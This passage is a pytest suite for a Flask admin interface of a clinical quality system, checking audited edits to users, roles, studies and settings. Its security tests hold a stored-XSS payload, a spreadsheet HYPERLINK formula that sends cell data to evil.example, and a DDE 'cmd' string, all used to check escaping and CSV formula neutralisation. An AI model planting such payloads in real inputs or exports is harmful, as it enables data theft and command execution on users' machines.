"""The admin UI, driven through the Flask test client by real users holding the shipped roles.

Every write goes through a form with a CSRF token and a reason, and every check reads the
database (and its audit trail) afterwards: nothing is mocked.
"""

from __future__ import annotations

import csv
import html
import io
import re
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy import func, select

from core.admin.base import FORMULA_PREFIXES, csv_safe
from core.audit.models import AuditEntry
from core.settings import Setting, get_setting
from core.studies import Site, Study
from core.testing import csrf_token, post_with_token
from core.users.models import Permission, Role, RolePermission, User, UserRole

NEW_PASSWORD = "Purple-Giraffe-Orbit-Lantern-42"
MODEL_VIEWS = ("core_users", "core_assignments", "core_roles", "core_studies", "core_sites")


# -- helpers ----------------------------------------------------------------------------------


def text_of(response) -> str:
    """The page as plain text (entities decoded), for looking up messages."""
    return html.unescape(response.get_data(as_text=True))


def table_of(response) -> str:
    """The list table of a Flask-Admin list page (without the menu and account bar)."""
    body = text_of(response)
    return body[body.index("<table"):body.rindex("</table>")]


def token(client, url: str = "/admin/") -> str:
    return csrf_token(client, url)


def post(client, url: str, data: dict, *, token_url: str | None = None, **kwargs):
    """POST a form with a valid CSRF token taken from ``token_url`` (default: the form page)."""
    return client.post(url, data={"csrf_token": token(client, token_url or url), **data}, **kwargs)


def audit_count(db) -> int:
    return db.session.scalar(select(func.count()).select_from(AuditEntry))


def entries(db, **filters) -> list[AuditEntry]:
    stmt = select(AuditEntry).filter_by(**filters).order_by(AuditEntry.id)
    return list(db.session.scalars(stmt))


def by_field(rows: list[AuditEntry]) -> dict[str, AuditEntry]:
    return {e.field: e for e in rows}


def count(db, model) -> int:
    return db.session.scalar(select(func.count()).select_from(model))


def role(db, key: str) -> Role:
    return db.session.scalar(select(Role).where(Role.key == key))


def menu_links(response) -> set[str]:
    return set(re.findall(r'class="(?:dropdown-item|nav-link) ?[^"]*" href="(/admin/[^"]*)"',
                          response.get_data(as_text=True)))


@pytest.fixture
def admin(client, make_user, login):
    """``alice`` (system administrator), signed in on ``client``."""
    user = make_user("alice", "system_admin")
    assert login(client, "alice").status_code == 302
    return user


@pytest.fixture
def study(db, system_actor):
    """Study ``S-001`` with sites ``101`` and ``102`` (created as the system principal)."""
    s = Study(code="S-001", title="Phase II in asthma")
    db.session.add(s)
    db.session.flush()
    db.session.add_all([
        Site(study=s, code="101", name="Charite Berlin", country="DE"),
        Site(study=s, code="102", name="Hopital Lyon", country="FR"),
    ])
    db.session.commit()
    return s


# -- dashboard --------------------------------------------------------------------------------


@pytest.mark.req("P11-04")
def test_dashboard_shows_widgets_by_permission(app, make_user, login):
    make_user("alice", "system_admin")
    make_user("ivan", "inspector")
    make_user("tina", "trainee")
    make_user("nora")  # an account without any role

    seen = {}
    for name in ("alice", "ivan", "tina"):
        client = app.test_client()
        login(client, name)
        page = client.get("/admin/")
        assert page.status_code == 200
        body = page.get_data(as_text=True)
        seen[name] = {w for w in ("core_account", "core_system") if f'id="widget-{w}"' in body}
        assert f"({name})" in text_of(page)  # the account card names the user
    assert seen == {
        "alice": {"core_account", "core_system"},
        "ivan": {"core_account", "core_system"},   # inspectors hold core.users.view
        "tina": {"core_account"},                  # trainees do not
    }

    client = app.test_client()
    login(client, "nora")
    assert client.get("/admin/").status_code == 403  # no core.admin.access at all


@pytest.mark.plugins("documents", "training", "capa", "audits")
def test_dashboard_system_widget_counts_people_and_modules(client, admin, make_user):
    make_user("bob", "trainee")
    page = text_of(client.get("/admin/"))
    system = page[page.index('id="widget-core_system"'):]
    # alice and bob; the system principal is not a person
    assert re.search(r"Active users</dt><dd[^>]*>2<", system)
    assert re.search(r"Enabled modules</dt><dd[^>]*>4 of 4<", system)


@pytest.mark.plugins("documents")
def test_menu_follows_permissions(app, make_user, login):
    make_user("alice", "system_admin")
    make_user("tina", "trainee")
    clients = {}
    for name in ("alice", "tina"):
        clients[name] = app.test_client()
        login(clients[name], name)
    admin_menu = menu_links(clients["alice"].get("/admin/"))
    trainee_menu = menu_links(clients["tina"].get("/admin/"))
    for url in ("/admin/core_users/", "/admin/core_roles/", "/admin/core_plugins/",
                "/admin/core_audit/", "/admin/core_settings/", "/admin/documents_settings/"):
        assert url in admin_menu
        assert url not in trainee_menu
    assert "/admin/core_studies/" in trainee_menu  # everyone may look at studies


# -- users ------------------------------------------------------------------------------------


def test_users_list_shows_people_and_hides_the_service_principal(client, admin, make_user):
    make_user("bob", "trainee", full_name="Bob Builder")
    page = client.get("/admin/core_users/")
    assert page.status_code == 200
    body = table_of(page)
    assert "Bob Builder" in body and "Alice Tester" in body
    assert "CQMS system" not in body
    found = table_of(client.get("/admin/core_users/?search=builder"))
    assert "Bob Builder" in found and "Alice Tester" not in found


@pytest.mark.req("A11-12", "E6-11", "P11-05", "DI-A")
def test_create_user_through_the_admin_form_is_audited(client, admin, db):
    response = post(client, "/admin/core_users/new/", {
        "username": "zoe", "full_name": "Zoe Zimmer", "email": "zoe@example.org",
        "initial_password": NEW_PASSWORD, "reason": "New QA associate (HR-2026-17)",
    })
    assert response.status_code == 302
    zoe = db.session.scalar(select(User).where(User.username == "zoe"))
    assert zoe is not None and zoe.active and zoe.must_change_password
    assert zoe.full_name == "Zoe Zimmer"

    rows = by_field(entries(db, entity_type="core_user", entity_id=str(zoe.id), action="create"))
    assert rows["username"].new_value == "zoe"
    assert rows["full_name"].new_value == "Zoe Zimmer"
    assert rows["password_hash"].new_value == "(redacted)"  # the hash never reaches the trail
    for entry in rows.values():
        assert entry.actor_id == admin.id
        assert entry.actor_name == "Alice Tester (alice)"
        assert entry.reason == "New QA associate (HR-2026-17)"
        assert entry.old_value is None
        assert entry.at.tzinfo is not None
        assert abs(entry.at - datetime.now(UTC)) < timedelta(minutes=5)
        assert entry.request_id and entry.client  # request source recorded


@pytest.mark.req("SEC-13", "P11-18", "A11-09")
@pytest.mark.parametrize(
    ("fields", "message"),
    [
        ({"username": "Not Valid"}, "lower-case letters, digits"),
        ({"username": "bob"}, "The username 'bob' exists or existed"),
        ({"username": "gone"}, "The username 'gone' exists or existed"),  # deactivated account
        ({"email": "not-an-address"}, "Enter a valid e-mail address."),
        ({"initial_password": "short"}, "Use at least 12 characters."),
        ({"full_name": ""}, "This field is required."),
        ({"reason": ""}, "A reason is required."),
    ],
    ids=["bad-username", "taken-username", "deactivated-username", "bad-email", "weak-password",
         "no-name", "no-reason"],
)
def test_invalid_user_is_reshown_with_message_and_nothing_written(
    client, admin, db, make_user, fields, message
):
    make_user("bob", "trainee")
    gone = make_user("gone")
    from core.audit.context import audit_context
    from core.users import service

    with audit_context(actor_id=admin.id, actor_name=admin.printed_name):
        service.deactivate(gone, reason="left the company")
    db.session.commit()
    users, audits = count(db, User), audit_count(db)

    data = {"username": "zoe", "full_name": "Zoe Zimmer", "email": "zoe@example.org",
            "initial_password": NEW_PASSWORD, "reason": "New starter", **fields}
    response = post(client, "/admin/core_users/new/", data)

    assert response.status_code == 200  # the form again, not a redirect
    page = text_of(response)
    assert message in page
    assert 'name="username"' in page
    if fields.get("username") == "Not Valid":
        assert 'value="Not Valid"' in page  # what the user typed is kept
    assert count(db, User) == users
    assert audit_count(db) == audits


@pytest.mark.req("P11-05", "A11-12")
def test_edit_user_changes_only_name_and_email_with_reason(client, admin, db, make_user):
    bob = make_user("bob", "trainee", full_name="Bob Bilder")
    url = f"/admin/core_users/edit/?id={bob.id}"
    form = text_of(client.get(url))
    assert 'name="full_name"' in form and 'name="username"' not in form  # usernames never change

    refused = post(client, url, {"full_name": "Bob Builder", "email": "bob@example.org",
                                 "reason": ""})
    assert refused.status_code == 200 and "A reason is required." in text_of(refused)
    db.session.refresh(bob)
    assert bob.full_name == "Bob Bilder"

    done = post(client, url, {"full_name": "Bob Builder", "email": "bob@example.org",
                              "reason": "Typo in the printed name"})
    assert done.status_code == 302
    db.session.refresh(bob)
    assert bob.full_name == "Bob Builder"
    [change] = [e for e in entries(db, entity_type="core_user", entity_id=str(bob.id),
                                   action="update") if not e.field.startswith("identity_")]
    assert (change.field, change.old_value, change.new_value) == ("full_name", "Bob Bilder",
                                                                  "Bob Builder")
    assert change.reason == "Typo in the printed name" and change.actor_id == admin.id


@pytest.mark.req("A11-12", "A11-09", "E6-11", "P11-26")
def test_deactivate_and_reactivate_need_a_reason_and_are_audited(app, client, admin, db, make_user,
                                                                login):
    bob = make_user("bob", "trainee")
    bob_client = app.test_client()
    assert login(bob_client, "bob").status_code == 302
    details = f"/admin/core_users/details/?id={bob.id}"
    before = audit_count(db)

    refused = post(client, f"/admin/core_users/{bob.id}/deactivate", {"reason": "  "},
                   token_url=details, follow_redirects=True)
    assert "A reason is required." in text_of(refused)
    db.session.refresh(bob)
    assert bob.active and audit_count(db) == before

    done = post(client, f"/admin/core_users/{bob.id}/deactivate", {"reason": "Left the study team"},
                token_url=details, follow_redirects=True)
    assert "bob: deactivate done." in text_of(done)
    db.session.refresh(bob)
    assert not bob.active and bob.deactivated_at is not None
    change = by_field(entries(db, entity_type="core_user", entity_id=str(bob.id), action="update"))
    assert (change["active"].old_value, change["active"].new_value) == ("true", "false")
    assert change["active"].reason == "Left the study team"
    assert change["active"].actor_name == "Alice Tester (alice)"
    # The deactivated user's open session ends at once, and signing in again fails.
    assert bob_client.get("/admin/").status_code == 302
    assert "Sign-in failed" in text_of(login(app.test_client(), "bob"))

    post(client, f"/admin/core_users/{bob.id}/reactivate", {"reason": "Rejoined"},
         token_url=details)
    db.session.refresh(bob)
    assert bob.active and bob.deactivated_at is None
    last = entries(db, entity_type="core_user", entity_id=str(bob.id), field="active")[-1]
    assert (last.old_value, last.new_value, last.reason) == ("false", "true", "Rejoined")

    again = post(client, f"/admin/core_users/{bob.id}/reactivate", {"reason": "twice"},
                 token_url=details, follow_redirects=True)
    assert "bob is already active." in text_of(again)


def test_administrator_cannot_deactivate_own_account(client, admin, db):
    response = post(client, f"/admin/core_users/{admin.id}/deactivate", {"reason": "oops"},
                    token_url=f"/admin/core_users/details/?id={admin.id}", follow_redirects=True)
    assert "You cannot deactivate your own account." in text_of(response)
    db.session.refresh(admin)
    assert admin.active


@pytest.mark.req("A11-12", "A11-09")
def test_unlock_needs_a_reason_and_is_audited(app, client, admin, db, make_user, login):
    bob = make_user("bob", "trainee")
    stranger = app.test_client()
    for _ in range(app.config["LOCKOUT_THRESHOLD"]):
        login(stranger, "bob", "wrong-password-123")
    db.session.refresh(bob)
    assert bob.is_locked
    assert len(entries(db, entity_type="core_user", entity_id=str(bob.id),
                       action="account.locked")) == 1
    details = f"/admin/core_users/details/?id={bob.id}"
    assert 'id="unlock"' in client.get(details).get_data(as_text=True)

    refused = post(client, f"/admin/core_users/{bob.id}/unlock", {"reason": ""},
                   token_url=details, follow_redirects=True)
    assert "A reason is required." in text_of(refused)
    db.session.refresh(bob)
    assert bob.is_locked

    post(client, f"/admin/core_users/{bob.id}/unlock", {"reason": "Identity confirmed by phone"},
         token_url=details)
    db.session.refresh(bob)
    assert not bob.is_locked and bob.failed_logins == 0
    [event] = entries(db, entity_type="core_user", entity_id=str(bob.id), action="user.unlocked")
    assert event.actor_id == admin.id and event.reason == "Identity confirmed by phone"
    [cleared] = entries(db, entity_type="core_user", entity_id=str(bob.id), field="locked_at",
                        action="update")[-1:]
    assert cleared.new_value is None and cleared.reason == "Identity confirmed by phone"
    assert login(app.test_client(), "bob").status_code == 302


# -- role assignments -------------------------------------------------------------------------


@pytest.mark.req("A11-12", "E6-11", "P11-05", "DI-L")
@pytest.mark.backends("sqlite", "postgresql")
def test_grant_scoped_roles_and_revoke_with_reason(client, admin, db, make_user, study):
    bob = make_user("bob")
    site = study.sites[0]
    qa, monitor = role(db, "qa_manager"), role(db, "site_monitor")
    new = f"/admin/core_assignments/new/?user_id={bob.id}"
    assert f'<option selected value="{bob.id}">' in client.get(new).get_data(as_text=True)

    response = post(client, "/admin/core_assignments/new/", {
        "user_id": bob.id, "role_id": qa.id, "study_id": study.id, "site_id": "",
        "reason": "QA lead for S-001",
    }, token_url=new)
    assert response.status_code == 302
    response = post(client, "/admin/core_assignments/new/", {
        "user_id": bob.id, "role_id": monitor.id, "study_id": "", "site_id": site.id,
        "reason": "Monitors site 101",
    }, token_url=new)
    assert response.status_code == 302

    db.session.refresh(bob)
    scopes = sorted(str(a) for a in bob.active_assignments())
    assert scopes == ["qa_manager @ study S-001", "site_monitor @ site 101 (S-001)"]
    grant = next(a for a in bob.active_assignments() if a.role_id == qa.id)
    assert grant.granted_by_id == admin.id

    rows = by_field(entries(db, entity_type="core_user_role", entity_id=str(grant.id)))
    assert rows["user_id"].new_value == f"bob (#{bob.id})"       # labels, not bare ids
    assert rows["role_id"].new_value == f"qa_manager (#{qa.id})"
    assert rows["study_id"].new_value == f"S-001 (#{study.id})"
    assert rows["granted_by_id"].new_value == f"alice (#{admin.id})"
    assert {e.reason for e in rows.values()} == {"QA lead for S-001"}
    assert {e.actor_id for e in rows.values()} == {admin.id}
    site_grant = next(a for a in bob.active_assignments() if a.role_id == monitor.id)
    site_rows = by_field(entries(db, entity_type="core_user_role", entity_id=str(site_grant.id)))
    assert site_rows["site_id"].new_value == f"S-001/101 (#{site.id})"
    assert "study_id" not in site_rows  # a site scope implies its study

    listing = text_of(client.get("/admin/core_assignments/"))
    assert "S-001" in listing and f'id="revoke-{grant.id}"' in listing

    revoke = f"/admin/core_assignments/{grant.id}/revoke"
    refused = post(client, revoke, {"reason": ""}, token_url="/admin/core_assignments/",
                   follow_redirects=True)
    assert "A reason is required to revoke a role." in text_of(refused)
    db.session.refresh(grant)
    assert grant.revoked_at is None

    done = post(client, revoke, {"reason": "Moved to another programme"},
                token_url="/admin/core_assignments/", follow_redirects=True)
    assert "Revoked qa_manager @ study S-001." in text_of(done)
    db.session.refresh(grant)
    assert grant.revoked_at is not None and grant.revoked_by_id == admin.id
    assert db.session.get(UserRole, grant.id) is not None  # revoked, never deleted
    change = by_field(entries(db, entity_type="core_user_role", entity_id=str(grant.id),
                              action="update"))
    assert change["revoked_at"].old_value is None and change["revoked_at"].new_value
    assert change["revoked_by_id"].new_value == f"alice (#{admin.id})"
    assert {e.reason for e in change.values()} == {"Moved to another programme"}
    assert {e.actor_name for e in change.values()} == {"Alice Tester (alice)"}


@pytest.mark.parametrize(
    ("case", "message"),
    [
        ("site-of-other-study", "The site does not belong to the chosen study."),
        ("duplicate", "bob already holds trainee @ all studies."),
        ("no-reason", "A reason is required."),
    ],
)
def test_invalid_grant_is_refused_and_nothing_written(client, admin, db, make_user, study, case,
                                                      message):
    bob = make_user("bob", "trainee")
    other = Study(code="S-002", title="Other")
    from core.audit.context import audit_context

    with audit_context(actor_id=admin.id, actor_name=admin.printed_name):
        db.session.add(other)
        db.session.commit()
    before, audits = count(db, UserRole), audit_count(db)
    data = {"user_id": bob.id, "role_id": role(db, "auditor").id, "study_id": "", "site_id": "",
            "reason": "needed"}
    if case == "site-of-other-study":
        data.update(study_id=other.id, site_id=study.sites[0].id)
    elif case == "duplicate":
        data.update(role_id=role(db, "trainee").id)
    else:
        data.update(reason="")
    response = post(client, "/admin/core_assignments/new/", data)
    assert response.status_code == 200
    assert message in text_of(response)
    assert count(db, UserRole) == before and audit_count(db) == audits


# -- roles ------------------------------------------------------------------------------------


@pytest.mark.plugins("documents", "capa")
@pytest.mark.req("A11-12", "E6-11", "P11-05")
def test_role_permission_edit_is_audited(client, admin, db):
    inspector = role(db, "inspector")
    url = f"/admin/core_roles/edit/?id={inspector.id}"
    form = client.get(url).get_data(as_text=True)
    assert re.search(r'<input checked [^>]*value="capa.view">', form)
    assert re.search(r'<input (?!checked)[^>]*value="documents.create">', form)
    wanted = [p for p in inspector.permission_names if p != "capa.view"] + ["documents.create"]

    refused = post(client, url, {"label": inspector.label, "description": "x",
                                 "permissions": wanted, "reason": ""})
    assert refused.status_code == 200 and "A reason is required." in text_of(refused)
    unknown = post(client, url, {"label": inspector.label, "permissions": ["core.nope"],
                                 "reason": "try"})
    assert unknown.status_code == 200 and "'core.nope' is not a valid choice" in text_of(unknown)
    db.session.refresh(inspector)
    assert "capa.view" in inspector.permission_names
    assert "documents.create" not in inspector.permission_names

    done = post(client, url, {"label": "Inspector (read-only)",
                              "description": inspector.description,
                              "permissions": wanted, "reason": "Inspectors draft no documents?"})
    assert done.status_code == 302
    db.session.refresh(inspector)
    assert sorted(inspector.permission_names) == sorted(wanted)

    perm = {p.name: p for p in db.session.scalars(select(Permission))}
    rows = entries(db, entity_type="core_role_permission", actor_id=admin.id)
    removed = [e for e in rows if e.action == "delete" and e.field == "permission_id"]
    added = [e for e in rows if e.action == "create" and e.field == "permission_id"]
    assert [e.old_value for e in removed] == [f"capa.view (#{perm['capa.view'].id})"]
    assert [e.new_value for e in added] == [f"documents.create (#{perm['documents.create'].id})"]
    for entry in removed + added:
        assert entry.reason == "Inspectors draft no documents?"
        assert entry.actor_name == "Alice Tester (alice)"
    role_rows = [e for e in rows if e.field == "role_id"]
    assert {e.old_value or e.new_value for e in role_rows} == {f"inspector (#{inspector.id})"}


@pytest.mark.req("A11-12")
def test_create_role_through_the_admin_form(client, admin, db):
    roles = count(db, Role)
    response = post(client, "/admin/core_roles/new/", {
        "key": "data_manager", "label": "Data manager", "description": "Cleans data",
        "permissions": ["core.studies.view", "core.admin.access"], "reason": "New CRO contract",
    })
    assert response.status_code == 302
    created = role(db, "data_manager")
    assert created.permission_names == ["core.admin.access", "core.studies.view"]
    rows = entries(db, entity_type="core_role", entity_id=str(created.id), action="create")
    assert {e.field for e in rows} >= {"key", "label"}
    assert {e.reason for e in rows} == {"New CRO contract"}

    duplicate = post(client, "/admin/core_roles/new/", {
        "key": "data_manager", "label": "Again", "reason": "again"})
    assert duplicate.status_code == 200
    assert "A role with key 'data_manager' exists." in text_of(duplicate)
    bad = post(client, "/admin/core_roles/new/", {"key": "Bad Key", "label": "x", "reason": "x"})
    assert "Lower-case letters, digits and '_', starting with a letter." in text_of(bad)
    assert bad.status_code == 200
    assert count(db, Role) == roles + 1


# -- studies and sites ------------------------------------------------------------------------


@pytest.mark.req("P11-05", "A11-09")
def test_studies_and_sites_create_and_edit_with_reason(client, admin, db):
    response = post(client, "/admin/core_studies/new/", {
        "code": "ONC-7", "title": "Phase III oncology", "description": "", "active": "y",
        "reason": "Study start-up",
    })
    assert response.status_code == 302
    onc = db.session.scalar(select(Study).where(Study.code == "ONC-7"))
    assert onc.title == "Phase III oncology" and onc.active
    rows = by_field(entries(db, entity_type="core_study", entity_id=str(onc.id), action="create"))
    assert rows["code"].new_value == "ONC-7" and rows["code"].reason == "Study start-up"
    assert rows["code"].actor_id == admin.id

    edit = f"/admin/core_studies/edit/?id={onc.id}"
    response = post(client, edit, {"code": "ONC-7", "title": "Phase III oncology (EU)",
                                   "description": "", "active": "y", "reason": "Protocol v2"})
    assert response.status_code == 302
    [change] = entries(db, entity_type="core_study", entity_id=str(onc.id), action="update")
    assert (change.field, change.old_value, change.new_value, change.reason) == (
        "title", "Phase III oncology", "Phase III oncology (EU)", "Protocol v2")

    response = post(client, "/admin/core_sites/new/", {
        "study": onc.id, "code": "DE-01", "name": "Uniklinik Koeln", "country": "DE",
        "active": "y", "reason": "Site selected",
    })
    assert response.status_code == 302
    site = db.session.scalar(select(Site).where(Site.code == "DE-01"))
    assert site.study_id == onc.id and site.country == "DE"
    rows = by_field(entries(db, entity_type="core_site", entity_id=str(site.id), action="create"))
    assert rows["study_id"].new_value == f"ONC-7 (#{onc.id})"
    assert rows["name"].reason == "Site selected"

    response = post(client, f"/admin/core_sites/edit/?id={site.id}", {
        "study": onc.id, "code": "DE-01", "name": "Uniklinik Koeln", "country": "DE",
        "reason": "Site closed",  # unchecked box: inactive
    })
    assert response.status_code == 302
    db.session.refresh(site)
    assert not site.active
    listing = text_of(client.get("/admin/core_sites/"))
    assert "ONC-7" in listing and "DE-01" in listing


@pytest.mark.req("SEC-13", "A11-09")
@pytest.mark.parametrize(
    ("url", "fields", "message"),
    [
        ("/admin/core_studies/new/", {"code": "bad code!"}, "Use up to 40 letters, digits"),
        ("/admin/core_studies/new/", {"reason": ""}, "A reason is required."),
        ("/admin/core_sites/new/", {"country": "Germany"}, "Two upper-case letters (ISO 3166)."),
        ("/admin/core_sites/new/", {"reason": ""}, "A reason is required."),
    ],
    ids=["study-code", "study-reason", "site-country", "site-reason"],
)
def test_invalid_study_or_site_is_reshown_and_nothing_written(client, admin, db, study, url,
                                                              fields, message):
    base = {"code": "X-9", "title": "t", "name": "n", "country": "DE", "active": "y",
            "study": study.id, "reason": "set-up"}
    studies, sites, audits = count(db, Study), count(db, Site), audit_count(db)
    response = post(client, url, {**base, **fields})
    assert response.status_code == 200
    assert message in text_of(response)
    assert (count(db, Study), count(db, Site), audit_count(db)) == (studies, sites, audits)


@pytest.mark.req("SEC-04")
@pytest.mark.backends("sqlite", "postgresql")
def test_stored_markup_renders_inert(client, admin, db):
    payload = '<script>alert("x")</script><img src=x onerror=alert(1)>'
    post(client, "/admin/core_studies/new/", {"code": "XSS-1", "title": payload, "active": "y",
                                              "reason": payload})
    xss = db.session.scalar(select(Study).where(Study.code == "XSS-1"))
    assert xss.title == payload
    for url in ("/admin/core_studies/", f"/admin/core_studies/details/?id={xss.id}",
                "/admin/core_audit/?entity_type=core_study"):
        body = client.get(url).get_data(as_text=True)
        assert "&lt;script&gt;" in body, url
        assert "<script>alert" not in body and "<img src=x" not in body, url


# -- settings ---------------------------------------------------------------------------------


@pytest.mark.plugins("documents")
@pytest.mark.req("P11-13", "P11-05")
def test_plugin_settings_valid_change_is_stored_and_audited(app, db, make_user, login):
    qa = make_user("quinn", "qa_manager")
    client = app.test_client()
    login(client, "quinn")
    url = "/admin/documents_settings/"
    page = text_of(client.get(url))
    assert "documents.review_interval_months" in page and "Default: 24." in page

    response = post(client, url, {"documents.review_interval_months": "36",
                                  "documents.review_reminder_days": "30",
                                  "documents.retain_obsolete_for_months": "120",
                                  "documents.review_due_days": "10",
                                  "documents.approval_due_days": "5",
                                  "documents.effective_due_days": "5",
                                  "reason": "SOP-QA-001 v4 sets a 3-year review cycle"},
                    follow_redirects=True)
    assert "Settings saved." in text_of(response)
    assert get_setting("documents.review_interval_months") == 36
    assert 'value="36"' in client.get(url).get_data(as_text=True)

    [entry] = entries(db, entity_type="core_setting",
                      entity_id="documents.review_interval_months", field="value")
    assert (entry.action, entry.old_value, entry.new_value) == ("create", None, "36")
    assert entry.actor_id == qa.id and entry.reason == "SOP-QA-001 v4 sets a 3-year review cycle"

    post(client, url, {"documents.review_interval_months": "48",
                       "documents.review_reminder_days": "30",
                       "documents.retain_obsolete_for_months": "120",
                       "documents.review_due_days": "10", "documents.approval_due_days": "5",
                       "documents.effective_due_days": "5", "reason": "Longer cycle"})
    change = entries(db, entity_type="core_setting",
                     entity_id="documents.review_interval_months", field="value")[-1]
    assert (change.action, change.old_value, change.new_value) == ("update", "36", "48")
    # An unchanged value is not rewritten, so it gains no entry the second time.
    assert len(entries(db, entity_type="core_setting",
                       entity_id="documents.review_reminder_days", field="value")) == 1


@pytest.mark.plugins("documents", "training")
@pytest.mark.req("SEC-13", "A11-09")
@pytest.mark.parametrize(
    ("url", "values", "message"),
    [
        ("/admin/documents_settings/", {"documents.review_interval_months": "abc"},
         "Enter a whole number."),
        ("/admin/documents_settings/", {"documents.review_interval_months": "0"},
         "Must be at least 1."),
        ("/admin/documents_settings/", {"documents.review_interval_months": "121"},
         "Must be at most 120."),
        ("/admin/training_settings/", {"training.gate_signatures": "perhaps"},
         "Enter true or false."),
        ("/admin/documents_settings/", {"reason": ""}, "A reason is required."),
    ],
    ids=["not-a-number", "below-minimum", "above-maximum", "not-a-bool", "no-reason"],
)
def test_invalid_setting_is_reshown_and_not_stored(client, admin, db, url, values, message):
    defaults = {"documents.review_interval_months": "36", "documents.review_reminder_days": "30",
                "documents.retain_obsolete_for_months": "120", "training.default_due_days": "30",
                "training.gate_signatures": "true", "reason": "tuning"}
    before = audit_count(db)
    response = post(client, url, {**defaults, **values})
    assert response.status_code == 200
    page = text_of(response)
    assert message in page
    assert "Nothing was saved: correct the fields shown." in page
    for key, raw in values.items():
        if key != "reason" and raw not in ("perhaps",):
            assert f'value="{raw}"' in page  # the rejected input is shown back
    assert count(db, Setting) == 0 and audit_count(db) == before
    assert get_setting("documents.review_interval_months") == 24
    assert get_setting("training.gate_signatures") is False


@pytest.mark.plugins("documents")
@pytest.mark.req("P11-04")
def test_settings_need_the_settings_permission(app, make_user, login):
    make_user("ivan", "inspector")
    make_user("tina", "trainee")
    for name in ("ivan", "tina"):
        client = app.test_client()
        login(client, name)
        for url in ("/admin/core_settings/", "/admin/documents_settings/"):
            assert client.get(url).status_code == 403
            response = client.post(url, data={"csrf_token": token(client),
                                              "core.site_name": "Hacked", "reason": "x"})
            assert response.status_code == 403
    assert get_setting("core.site_name") == "CQMS"


# -- audit trail ------------------------------------------------------------------------------


@pytest.fixture
def trail(client, admin, db, make_user):
    """Some audited history: bob created by the fixture, renamed by alice with a reason."""
    bob = make_user("bob", "trainee", full_name="Bob Bilder")
    post(client, f"/admin/core_users/edit/?id={bob.id}",
         {"full_name": "Bob Builder", "email": "", "reason": "Typo"})
    return bob


def audit_ids(response) -> list[int]:
    body = response.get_data(as_text=True)
    table = body[body.index('id="audit-table"'):]
    return [int(i) for i in re.findall(r"<tr[^>]*>\s*<td>(\d+)</td>", table)]


@pytest.mark.req("E6-15", "SEC-05")
def test_audit_trail_filters(client, db, trail):
    bob = trail
    everything = client.get("/admin/core_audit/")
    assert everything.status_code == 200
    assert len(audit_ids(everything)) == min(100, audit_count(db))

    def ids(**filters):
        stmt = select(AuditEntry.id).filter_by(**filters).order_by(AuditEntry.id.desc())
        return list(db.session.scalars(stmt))

    response = client.get(f"/admin/core_audit/?entity_type=core_user&entity_id={bob.id}")
    assert audit_ids(response) == ids(entity_type="core_user", entity_id=str(bob.id))
    response = client.get("/admin/core_audit/?field=full_name&action=update")
    [renamed] = audit_ids(response)
    entry = db.session.get(AuditEntry, renamed)
    page = text_of(response)
    assert "Bob Bilder" in page and "Bob Builder" in page and "Typo" in page
    assert entry.actor_name == "Alice Tester (alice)"
    response = client.get("/admin/core_audit/?actor=alice")  # matches part of the printed name
    assert set(audit_ids(response)) == {e.id for e in db.session.scalars(select(AuditEntry))
                                        if "alice" in e.actor_name}
    today = datetime.now(UTC).date()
    dated = client.get(f"/admin/core_audit/?since={today:%Y-%m-%d}&until={today:%Y-%m-%d}")
    assert audit_ids(dated) == audit_ids(everything)
    past = client.get("/admin/core_audit/?until=2000-01-01")
    assert audit_ids(past) == [] and "No entries match." in text_of(past)
    assert audit_ids(client.get(f"/admin/core_audit/?since={today + timedelta(days=1)}")) == []


@pytest.mark.req("SEC-05", "SEC-13")
@pytest.mark.parametrize("query", ["order_by=password_hash", "entity_type=core_user&sort=1",
                                   "since=yesterday", "until=2026-13-01", "before=abc",
                                   "before=99999999999999999999"])
def test_audit_trail_refuses_unknown_or_bad_filters(client, trail, query):
    response = client.get(f"/admin/core_audit/?{query}")
    assert response.status_code == 400
    assert "Traceback" not in response.get_data(as_text=True)


def test_audit_trail_pages_with_keyset(client, admin, db, system_actor):
    from core.audit.service import record_event

    for i in range(130):
        record_event("export", "pytest", i, field="test")
    db.session.commit()
    first = client.get("/admin/core_audit/?entity_type=pytest")
    ids = audit_ids(first)
    assert len(ids) == 100 and ids == sorted(ids, reverse=True)
    more = re.search(r'href="([^"]*before=(\d+)[^"]*)"', first.get_data(as_text=True))
    assert more and int(more.group(2)) == ids[-1]
    second = client.get(html.unescape(more.group(1)))
    assert len(audit_ids(second)) == 30 and max(audit_ids(second)) < ids[-1]


@pytest.mark.req("P11-07", "E6-16")
def test_audit_trail_csv_export(client, db, trail):
    bob = trail
    assert client.get("/admin/core_audit/?format=csv").status_code == 400  # exports are POSTs
    response = post_with_token(client, "/admin/core_audit/export.csv",
                               query={"entity_type": "core_user", "entity_id": bob.id})
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    expected = db.session.scalars(select(AuditEntry).where(
        AuditEntry.entity_type == "core_user", AuditEntry.entity_id == str(bob.id)
    ).order_by(AuditEntry.id.desc())).all()
    assert [int(r["id"]) for r in rows] == [e.id for e in expected]
    assert {r["at_timezone"] for r in rows} == {"UTC"}
    assert all(datetime.fromisoformat(r["at"]).utcoffset() == timedelta(0) for r in rows)
    renamed = next(r for r in rows if r["field"] == "full_name" and r["action"] == "update")
    assert (renamed["old_value"], renamed["new_value"], renamed["reason"]) == (
        "Bob Bilder", "Bob Builder", "Typo")
    assert renamed["actor_name"] == "Alice Tester (alice)"
    assert post_with_token(client, "/admin/core_audit/export.csv",
                           query={"nope": 1}).status_code == 400


@pytest.mark.req("SEC-06")
def test_csv_exports_neutralise_formulas(client, admin, db):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    post(client, "/admin/core_studies/new/", {"code": "CSV-1", "title": formula, "active": "y",
                                              "reason": "+cmd|' /C calc'!A0"})
    exported = post_with_token(client, "/admin/core_studies/export.csv")
    assert exported.status_code == 200
    rows = list(csv.reader(io.StringIO(exported.get_data(as_text=True))))
    titles = [cell for row in rows for cell in row if "HYPERLINK" in cell]
    assert titles == ["'" + formula]

    audit = post_with_token(client, "/admin/core_audit/export.csv",
                            query={"entity_type": "core_study"})
    rows = list(csv.DictReader(io.StringIO(audit.get_data(as_text=True))))
    title = next(r for r in rows if r["field"] == "title")
    assert title["new_value"] == "'" + formula
    assert title["reason"] == "'+cmd|' /C calc'!A0"
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(FORMULA_PREFIXES), row

    for prefix in FORMULA_PREFIXES:
